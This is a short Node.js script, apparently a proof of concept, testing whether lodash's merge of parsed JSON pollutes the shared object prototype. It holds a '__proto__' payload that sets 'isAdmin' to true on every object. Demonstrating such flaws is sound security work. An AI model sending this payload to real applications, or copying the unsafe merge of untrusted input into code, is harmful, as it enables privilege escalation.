'use strict';
// The claim: merging a parsed document writes to the prototype that all objects share.
const _ = require('lodash');

const document = JSON.parse('{"user": {"name": "eve"}, "__proto__": {"isAdmin": true}}');
_.merge({}, document);
